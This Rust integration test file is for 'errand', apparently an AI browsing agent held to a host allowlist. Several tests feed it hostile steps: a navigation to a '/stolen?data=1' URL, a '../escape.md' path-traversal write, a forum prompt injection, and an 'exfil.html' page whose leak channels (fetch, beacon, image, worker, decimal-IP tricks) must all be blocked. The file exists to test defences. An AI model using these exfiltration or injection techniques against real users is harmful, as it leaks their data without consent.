//! Runs as a user starts them: scripts, the demo, bad input, signals, and a person at
//! the terminal deciding about a host off the allowlist.

use std::time::Duration;

use fixtures::Site;
use serde_json::{json, Value};
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer};

use crate::common::*;

#[tokio::test]
async fn ctrl_c_mid_run_closes_the_browser_and_finalises_the_recording() {
    let site = Site::start().await;
    let d = dirs();
    let server = MockServer::start().await;
    // The model takes its time: errand is interrupted while it waits.
    Mock::given(method("POST"))
        .and(path("/v1/messages"))
        .respond_with(claude("x", &[]).set_delay(Duration::from_secs(60)))
        .mount(&server)
        .await;
    let mut c = errand(
        &d,
        &["Anything", "--start", &site.url("/library.html"), "--model", "anthropic:claude-test", "--json"],
        &[("ANTHROPIC_API_KEY", "k"), ("ANTHROPIC_BASE_URL", &server.uri())],
    );
    let child = c.spawn().unwrap();
    let pid = child.id().unwrap();
    for _ in 0..300 {
        if !server.received_requests().await.unwrap().is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(!server.received_requests().await.unwrap().is_empty(), "errand asked the model");
    let st = std::process::Command::new("kill").args(["-INT", &pid.to_string()]).status().unwrap();
    assert!(st.success());
    let o = tokio::time::timeout(Duration::from_secs(30), child.wait_with_output()).await.expect("errand stops on Ctrl-C").unwrap();
    assert_eq!(o.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(stderr.contains("aborted"), "{stderr}");
    let (_, lines) = recording(&d.rec);
    let end = lines.last().unwrap();
    assert_eq!((end["type"].as_str(), end["outcome"].as_str()), (Some("session_end"), Some("aborted")));
    // The browser errand launched is gone with it.
    let stdout = String::from_utf8_lossy(&o.stdout);
    let browser: Value =
        stdout.lines().filter_map(|l| serde_json::from_str::<Value>(l).ok()).find(|e| e["event"] == "browser").expect("a browser event");
    let chromium = browser["pid"].as_u64().expect("the browser's pid");
    let alive = std::fs::read_to_string(format!("/proc/{chromium}/stat")).map(|s| !s.contains(") Z ")).unwrap_or(false);
    assert!(!alive, "Chromium {chromium} is still running");
}

#[tokio::test]
async fn a_script_fills_a_search_form_follows_a_result_extracts_and_writes_a_file() {
    let site = Site::start().await;
    let d = dirs();
    let script = script_model(
        &d,
        "script.json",
        json!([
            {"tool": "type", "args": {"selector": "#q", "text": "otter", "submit": true}},
            {"tool": "click", "args": {"text": "Eurasian otters"}},
            {"tool": "extract"},
            {"tool": "navigate", "args": {"url": format!("{}/stolen?data=1", site.foreign)}},
            {"tool": "write_file", "args": {"path": "notes/otters.md", "content": "Otters weigh 7–12 kg [1]."}},
            {"tool": "write_file", "args": {"path": "../escape.md", "content": "no"}},
            {"tool": "done", "args": {"summary": "noted"}}
        ]),
    );
    let r = run(errand(&d, &["Note what otters weigh", "--start", &site.url("/library.html"), "--model", &script, "--json"], &[])).await;
    assert_eq!(r.code, 0, "{}", r.stderr);
    // The GET search form was submitted and the result followed.
    let log = site.requests();
    assert!(log.iter().any(|l| l.method == "GET" && l.path == "/search" && l.query == "q=otter"), "{log:?}");
    assert!(log.iter().any(|l| l.path == "/articles/otters.html"));
    assert_eq!(std::fs::read_to_string(d.out.join("notes/otters.md")).unwrap(), "Otters weigh 7–12 kg [1].");
    assert!(!d.root.join("escape.md").exists());
    // The off-allowlist navigation was refused, narrated and never sent.
    assert!(site.foreign_log.lock().unwrap().is_empty());
    assert!(r.stderr.contains("blocked: 127.0.0.2"), "{}", r.stderr);
    assert!(r.stderr.contains("goes up with .."), "{}", r.stderr);
    let steps: Vec<Value> =
        r.stdout.lines().filter_map(|l| serde_json::from_str::<Value>(l).ok()).filter(|e| e["event"] == "step").collect();
    assert_eq!(steps.len(), 7);
}

#[tokio::test]
async fn bad_input_exits_2_and_starts_nothing() {
    let d = dirs();
    let r = run(errand(&d, &["x", "--model", "parrot:1"], &[])).await;
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("unknown --model \"parrot:1\""), "{}", r.stderr);
    let r = run(errand(&d, &["x", "--model", "anthropic:claude-test"], &[])).await;
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("needs ANTHROPIC_API_KEY"), "{}", r.stderr);
    std::fs::create_dir_all(&d.root).unwrap();
    std::fs::write(d.root.join("allowlist.toml"), "allow = [\"*.com\"]\n").unwrap();
    let r = run(errand(&d, &["x", "--model", "builtin", "--start", "http://127.0.0.1:9/"], &[])).await;
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("allowlist.toml:1:10: \"*.com\" would allow every site"), "{}", r.stderr);
    std::fs::remove_file(d.root.join("allowlist.toml")).unwrap();
    // Careless input is a usage error before anything starts, never an empty "success".
    let cases: &[(&[&str], &str)] = &[
        (&["what do kayaks cost"], "pass --start URL"),
        (&["what do kayaks cost", "--start", "ftp://127.0.0.1/x"], "is not a web address"),
        (&["what do kayaks cost", "--start", "kayaks.example"], "e.g. https://kayaks.example"),
        (&["", "--start", "http://127.0.0.1:9/"], "the task is empty"),
        (&["  ", "--start", "http://127.0.0.1:9/"], "the task is empty"),
        (&["x", "--start", "http://127.0.0.1:9/", "--max-steps", "0"], "--max-steps"),
        (&["x", "--start", "http://127.0.0.1:9/", "--max-pages", "0"], "--max-pages"),
    ];
    for (args, says) in cases {
        let r = run(errand(&d, args, &[])).await;
        assert_eq!(r.code, 2, "{args:?}: {}", r.stderr);
        assert!(r.stderr.contains(says), "{args:?}: {}", r.stderr);
        assert!(!r.stderr.contains("starting the browser") && !r.stderr.contains("enforcing"), "{args:?} started: {}", r.stderr);
    }
    for (cmd, args, says) in [
        ("extract", vec!["--parallel", "0", "http://127.0.0.1:9/"], "--parallel"),
        ("replay", vec!["--speed", "0", "x"], "--speed"),
        ("open", vec!["notaurl"], "not a full address"),
    ] {
        let o = std::process::Command::new(env!("CARGO_BIN_EXE_errand"))
            .arg(cmd)
            .args(&args)
            .env("ERRAND_ALLOWLIST", d.root.join("allowlist.toml"))
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(2), "{cmd} {args:?}: {err}");
        assert!(err.contains(says), "{cmd} {args:?}: {err}");
    }
    assert!(!d.rec.exists() && !d.out.exists(), "nothing was created");
}

#[tokio::test]
async fn the_demo_researches_the_bundled_site_into_cited_files() {
    let d = dirs();
    let mut c = tokio::process::Command::new(env!("CARGO_BIN_EXE_errand"));
    c.arg("demo").arg("--out").arg(&d.out).arg("--record-dir").arg(&d.rec).kill_on_drop(true);
    let o = tokio::time::timeout(Duration::from_secs(120), c.output()).await.unwrap().unwrap();
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(0), "{stderr}");
    let report = std::fs::read_to_string(d.out.join("report.md")).unwrap();
    // The costs page's figures, an overview, and a source list that resolves the citations.
    assert!(report.contains("8,000 to 14,000 euros") && report.contains("## Overview") && report.contains("## Sources"), "{report}");
    let n = report.lines().find(|l| l.contains("What a heat pump costs") && l.starts_with('[')).expect("the costs page is a source");
    assert!(n.contains("/articles/costs.html"));
    // Every page the run extracted is cited in the report, and every citation resolves
    // to one of them.
    let (_, lines) = recording(&d.rec);
    let extracts: Vec<(u64, String)> = lines
        .iter()
        .filter(|l| l["type"] == "extract")
        .map(|l| (l["n"].as_u64().unwrap(), l["url"].as_str().unwrap().to_string()))
        .collect();
    assert!(extracts.len() >= 3, "{extracts:?}");
    for (n, url) in &extracts {
        assert!(report.contains(&format!("[{n}] ")) && report.contains(&format!("<{url}>")), "extract {n} ({url}) not cited:\n{report}");
    }
    for cite in report.match_indices('[').filter_map(|(i, _)| report[i + 1..].split(']').next()).filter_map(|c| c.parse::<u64>().ok()) {
        assert!(extracts.iter().any(|(n, _)| *n == cite), "[{cite}] cites no extract");
    }
    // The forum's injection is not followed, and the foreign partner site never visited.
    assert!(!report.to_lowercase().contains("ignore"));
    assert!(extracts.iter().all(|(_, u)| u.starts_with("http://127.0.0.1:") || u.starts_with("file://")), "{extracts:?}");
    // The materials came in: the notes and the quotes are read, cited beside the pages,
    // and the pages the notes name were opened.
    let inputs: Vec<&Value> = lines.iter().filter(|l| l["type"] == "input_read").collect();
    assert_eq!(inputs.len(), 2, "{inputs:?}");
    assert!(report.contains("materials/notes.md") && report.contains("11,500 euros"), "{report}");
    assert!(report.contains("and 2 input files"), "{report}");
    for l in lines.iter().filter(|l| l["type"] == "step") {
        for k in ["url", "url_before"] {
            assert!(!l[k].as_str().unwrap_or_default().contains("127.0.0.2"), "visited the foreign host: {l}");
        }
    }
    // sources.csv lists each page read; the relevant table is saved as CSV, as shown.
    let sources = std::fs::read_to_string(d.out.join("sources.csv")).unwrap();
    assert!(sources.starts_with("n,title,url,fetched_at,words,relevance\n"), "{sources}");
    assert_eq!(sources.lines().count(), extracts.len() + 1);
    let table = std::fs::read_to_string(d.out.join("tables/what-a-heat-pump-costs-1.csv")).unwrap();
    assert!(
        table.starts_with("System,Installed price (EUR),Annual running cost (EUR)\nAir-source heat pump,\"8,000–14,000\",900\n"),
        "{table}"
    );
    // sources.json maps each file to the extracts it used.
    let map: Value = serde_json::from_str(&std::fs::read_to_string(d.out.join("sources.json")).unwrap()).unwrap();
    let files = map["files"].as_array().unwrap();
    let table_entry = files.iter().find(|f| f["file"] == "tables/what-a-heat-pump-costs-1.csv").expect("the table has its sources");
    assert!(table_entry["sources"][0]["url"].as_str().unwrap().ends_with("/articles/costs.html"));
    assert_eq!(lines.last().unwrap()["outcome"], "done");
}

#[tokio::test]
async fn the_builtin_policy_starts_from_a_site_search() {
    let site = Site::start().await;
    let d = dirs();
    let o = tokio::process::Command::new(env!("CARGO_BIN_EXE_errand"))
        .args(["run", "How heavy is an adult otter?", "--model", "builtin", "--search", &format!("{}/search?q={{query}}", site.origin)])
        .arg("--out")
        .arg(&d.out)
        .arg("--record-dir")
        .arg(&d.rec)
        .env("ERRAND_ALLOWLIST", d.root.join("allowlist.toml"))
        .output()
        .await
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    // The search got the task's keywords, and the result it listed was read and cited.
    let searched = site.requests().into_iter().find(|r| r.path == "/search").expect("the search page was opened");
    assert_eq!(searched.query, "q=heavy+adult+otter");
    let report = std::fs::read_to_string(d.out.join("report.md")).unwrap();
    assert!(report.contains("7 and 12 kilograms") && report.contains("/articles/otters.html>"), "{report}");
    let (_, lines) = recording(&d.rec);
    assert!(lines.iter().any(|l| l["type"] == "extract" && l["url"].as_str().unwrap().ends_with("/articles/otters.html")));
}

/// Run errand at a real pseudo-terminal (util-linux `script`), typing `answers` into it.
pub(crate) async fn run_at_terminal(d: &Dirs, args: &[String], answers: &str) -> Ran {
    let quote = |s: &str| format!("'{}'", s.replace('\'', "'\\''"));
    let mut cmd = vec![quote(env!("CARGO_BIN_EXE_errand")), "run".into()];
    cmd.extend(args.iter().map(|a| quote(a)));
    cmd.extend(["--out".into(), quote(&d.out.display().to_string()), "--record-dir".into(), quote(&d.rec.display().to_string())]);
    let mut c = tokio::process::Command::new("script");
    c.args(["-qec", &cmd.join(" "), "/dev/null"]);
    c.env("ERRAND_ALLOWLIST", d.root.join("allowlist.toml"));
    c.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped()).kill_on_drop(true);
    let mut child = c.spawn().expect("script(1) from util-linux runs");
    let mut stdin = child.stdin.take().unwrap();
    use tokio::io::AsyncWriteExt;
    stdin.write_all(answers.as_bytes()).await.unwrap();
    // Keep the terminal's input open until errand is done.
    let o = tokio::time::timeout(Duration::from_secs(60), child.wait_with_output()).await.expect("errand finishes").unwrap();
    drop(stdin);
    let all = String::from_utf8_lossy(&o.stdout).to_string();
    Ran { code: o.status.code().unwrap_or(-1), stdout: all.clone(), stderr: all }
}

#[tokio::test]
async fn at_a_terminal_a_person_decides_about_a_blocked_host() {
    let site = Site::start().await;
    let foreign_pattern = site.foreign.trim_start_matches("http://").to_string();
    for (answer, reached) in [("d\nd\n", false), ("a\n", true)] {
        let d = dirs();
        let script = script_model(
            &d,
            "script.json",
            json!([
                {"tool": "navigate", "args": {"url": format!("{}/one", site.foreign)}},
                {"tool": "navigate", "args": {"url": format!("{}/two", site.foreign)}},
                {"tool": "done", "args": {"summary": "ok"}}
            ]),
        );
        site.foreign_log.lock().unwrap().clear();
        let args: Vec<String> =
            vec!["Visit the partner".into(), "--start".into(), site.url("/library.html"), "--model".into(), script.clone()];
        let r = run_at_terminal(&d, &args, answer).await;
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert!(r.stderr.contains("the model wants to open") && r.stderr.contains("[o]nce, for this [s]ession, [a]lways"), "{}", r.stderr);
        let paths: Vec<String> = site.foreign_log.lock().unwrap().iter().map(|l| l.path.clone()).collect();
        let (_, lines) = recording(&d.rec);
        let prompts: Vec<&Value> = lines.iter().filter(|l| l["type"] == "allow_prompt").collect();
        if reached {
            // "always": both pages load after one question, and the file now allows the host.
            assert!(paths.contains(&"/one".to_string()) && paths.contains(&"/two".to_string()), "{paths:?}");
            assert_eq!(prompts.len(), 1);
            assert_eq!(prompts[0]["answer"], "always");
            let file = std::fs::read_to_string(d.root.join("allowlist.toml")).unwrap();
            assert!(file.contains(&foreign_pattern), "{file}");
        } else {
            // Deny: asked for each attempt, nothing sent.
            assert!(paths.is_empty(), "{paths:?}");
            assert_eq!(prompts.len(), 2);
            assert!(prompts.iter().all(|p| p["answer"] == "deny"));
            assert!(!d.root.join("allowlist.toml").exists());
        }
    }
}

#[tokio::test]
async fn the_recording_lists_every_blocked_attempt_of_a_hostile_page() {
    let site = Site::start().await;
    let d = dirs();
    let sink = site.foreign.clone();
    let port = sink.rsplit(':').next().unwrap().to_string();
    let page = format!("{}/exfil.html?sink={}&stun={port}", site.origin, sink.replace(':', "%3A").replace('/', "%2F"));
    let script = script_model(
        &d,
        "script.json",
        json!([
            {"tool": "navigate", "args": {"url": page}},
            {"tool": "wait", "args": {"text": "all fired", "ms": 8000}},
            {"tool": "click", "args": {"text": "Leak on click"}},
            {"tool": "done", "args": {"summary": "ok"}}
        ]),
    );
    let r = run(errand(&d, &["Read the page", "--start", &site.url("/library.html"), "--model", &script], &[])).await;
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(site.foreign_log.lock().unwrap().is_empty(), "the sink was reached");
    let (_, lines) = recording(&d.rec);
    let blocked: Vec<String> =
        lines.iter().filter(|l| l["type"] == "blocked").map(|l| format!("{} [{} {}]", l["url"], l["reason"], l["resource"])).collect();
    for v in [
        "img",
        "script",
        "style",
        "iframe",
        "form",
        "fetch",
        "xhr",
        "beacon",
        "eventsource",
        "worker",
        "decimal",
        "trailing-dot",
        "window-open",
        "click-fetch",
        "favicon",
    ] {
        assert!(
            blocked.iter().any(|b| b.contains(&format!("/v/{v}\"")) && b.contains("is not on the allowlist")),
            "the recording has no {v} attempt:\n{}",
            blocked.join("\n")
        );
    }
}
